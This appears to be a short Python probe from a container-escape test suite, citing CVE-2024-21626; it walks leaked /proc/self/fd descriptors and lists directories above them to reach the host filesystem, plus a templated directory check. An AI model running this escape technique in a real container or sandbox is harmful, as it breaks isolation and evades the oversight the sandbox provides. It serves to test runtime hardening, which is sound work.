# Steps to the host through a directory that was left open.
# source: history 11 (CVE-2024-21626)
# control: none it needs a runtime that leaves one open
import os

from attempts import attempt

for number in range(256):
    path = f"/proc/self/fd/{number}"
    if number < 3 or os.path.lexists(path):
        attempt(f"descriptor {number}", lambda: (os.chdir(path + "/"), os.listdir("../../../.."))[1])
attempt("working directory", lambda: os.listdir("{{directory}}"))
